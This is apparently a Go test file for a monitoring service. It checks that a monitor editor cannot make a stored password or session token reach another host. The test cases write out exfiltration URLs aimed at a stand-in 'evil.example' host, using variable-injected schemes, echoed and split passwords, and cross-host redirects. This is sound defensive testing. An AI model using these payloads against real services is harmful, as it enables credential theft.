package checks

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

// The exploits a review found: an editor of a monitor, who does not know
// its stored password, has it (or a session token) sent to their own
// server, or shown in a result. The server keeps the password across an
// edit only while the monitor reaches the same literal hosts, so each
// exploit reaches another host at run time. evil stands for evil.example.

// leakPassword is URL-safe, so that an exploit's URL holds it as it is.
const leakPassword = "hunter2-Secret"

func leakSettings(username, password, steps string) string {
	return fmt.Sprintf(`{"username":%q,"password":%q,"steps":%s}`, username, password, steps)
}

func TestTransactionPasswordStaysWithNamedHosts(t *testing.T) {
	app := httptest.NewServer(leakApp())
	defer app.Close()
	named := newRecorder(t) // a host of the owner's that a step writes out
	cases := []struct {
		name     string
		username string // EVIL and NAMED stand for the two servers' host:port
		steps    string // here too
		want     string // the message; EVIL as above
		evilGets int    // requests evil may receive (none holding the password)
	}{
		{"username / turns the url into //evil", "/",
			`[{"name":"x","url":"{{username}}/EVIL/c?p={{password}}"}]`,
			"step 1 'x': the password is not sent to EVIL: only to hosts the steps name", 0},
		{"username http: turns the url into http://evil", "http:",
			`[{"name":"x","url":"{{username}}//EVIL/c?p={{password}}"}]`,
			"step 1 'x': the password is not sent to EVIL: only to hosts the steps name", 0},
		{"a path variable turns the url into //evil", "/EVIL/x",
			`[{"name":"x","url":"/{{username}}","headers":{"X-P":"{{password}}"}}]`,
			"step 1 'x': the password is not sent to EVIL: only to hosts the steps name", 0},
		{"the password echoed into a variable", "/",
			`[{"url":"/echo?q={{password}}","extract":[{"name":"e","from":"body","regex":"q=\\[([^\\]]*)\\]"}]},
			  {"name":"x","url":"{{username}}/EVIL/c?p={{e}}"}]`,
			"step 2 'x': the password is not sent to EVIL: only to hosts the steps name", 0},
		{"the password echoed in two pieces", "/",
			`[{"url":"/echo?q={{password}}","extract":[{"name":"a","from":"body","regex":"q=\\[(.{7})"},{"name":"b","from":"body","regex":"q=\\[.{7}([^\\]]*)\\]"}]},
			  {"name":"x","url":"{{username}}/EVIL/c","json":{"p":"{{a}}{{b}}"}}]`,
			"step 2 'x': the password is not sent to EVIL: only to hosts the steps name", 0},
		{"a token taken from an answer", "/",
			`[{"url":"/echo?q=session-token","extract":[{"name":"tok","from":"body","regex":"q=\\[([^\\]]*)\\]"}]},
			  {"name":"x","url":"{{username}}/EVIL/c?t={{tok}}"}]`,
			"step 2 'x': the url leads to EVIL, a host the steps do not name: a variable may not choose the host", 0},
		{"a header follows a 307 to another host", "u",
			`[{"name":"x","method":"POST","url":"/go?to=http://EVIL/c","headers":{"X-P":"{{password}}"},"body":"{{password}}"}]`,
			"step 1 'x': redirect to http://EVIL/ not followed: the step sends the password", 0},
		{"a login form answered by a 303 to another host", "u",
			`[{"name":"x","url":"/go?code=303&to=http://EVIL/c","form":{"password":"{{password}}"}}]`,
			"step 1 'x': redirect to http://EVIL/ not followed: the step sends the password", 0},
		{"a redirect within the target is followed", "u",
			`[{"name":"x","url":"/go?to=/ok","headers":{"X-P":"{{password}}"}}]`,
			"1 step ok in ", 0},
		{"a redirect to a host a step names is followed", "u",
			`[{"url":"http://NAMED/"},{"name":"x","url":"/go?to=http://NAMED/c","headers":{"X-P":"{{password}}"}}]`,
			"2 steps ok in ", 0},
		{"a step without the password follows a redirect anywhere", "u",
			`[{"name":"x","url":"/go?to=http://EVIL/c"}]`,
			"1 step ok in ", 1},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			evil := newRecorder(t)
			hosts := strings.NewReplacer("EVIL", evil.host(), "NAMED", named.host())
			r := runTx(t, app.URL, leakSettings(hosts.Replace(tc.username), leakPassword, hosts.Replace(tc.steps)), 10*time.Second)
			want := strings.ReplaceAll(tc.want, "EVIL", evil.host())
			if !strings.HasPrefix(r.Message, want) {
				t.Errorf("got %s %q, want %q", r.Status, r.Message, want)
			}
			if got := evil.requests(); len(got) != tc.evilGets || evil.gotPassword(leakPassword) {
				t.Errorf("evil received %d requests, want %d, and none with the password:\n%s", len(got), tc.evilGets, strings.Join(got, "\n"))
			}
		})
	}
}

// TestTransactionHostFromVariableRefused: a variable in a URL's scheme,
// host or port is refused when the monitor is saved.
func TestTransactionHostFromVariableRefused(t *testing.T) {
	for _, u := range []string{
		"https://{{username}}.evil.example/?p={{password}}",
		"https://app.example{{username}}/",
		"https://app.example:{{username}}/",
		"//{{username}}/x",
		"http{{username}}://app.example/",
	} {
		_, err := New("transaction", "https://app.example", json.RawMessage(txStep1(fmt.Sprintf(`{"url":%q}`, u))))
		var se *SettingError
		if !errors.As(err, &se) || se.Field != "settings.steps[0].url" {
			t.Errorf("%s: got %v, want an error naming settings.steps[0].url", u, err)
		}
	}
}

// TestTransactionMessagesHideEchoedPassword: a page that echoes the
// password, an extraction that takes it, and a failing expectation that
// would show it.
func TestTransactionMessagesHideEchoedPassword(t *testing.T) {
	app := httptest.NewServer(leakApp())
	defer app.Close()
	extract := `"extract":[{"name":"e","from":"body","regex":"q=\\[([^\\]]*)\\]"}]`
	cases := []struct {
		name, password, steps, want string
	}{
		{"as it is", leakPassword,
			`[{"url":"/echo?q={{password}}",` + extract + `},{"name":"x","url":"/echo","expect":{"contains":"{{e}}!"}}]`,
			`step 2 'x': body does not contain "{{e}}!"`},
		{"HTML-escaped by the page", appPassword,
			`[{"url":"/echo","form":{"q":"{{password}}"},` + extract + `},{"name":"x","url":"/echo","form":{"q":"{{password}}"},"expect":{"not_contains":"q=[{{e}}"}}]`,
			`step 2 'x': body contains "q=[{{e}}"`},
		{"with a quote, which %q escapes", `pa"ss`,
			`[{"url":"/raw","form":{"q":"{{password}}"},` + extract + `},{"name":"x","url":"/raw","expect":{"contains":"{{e}}!"}}]`,
			`step 2 'x': body does not contain "{{e}}!"`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := runTx(t, app.URL, leakSettings("u", tc.password, tc.steps), 10*time.Second)
			if r.Message != tc.want {
				t.Fatalf("got %s %q, want %q", r.Status, r.Message, tc.want)
			}
		})
	}
}
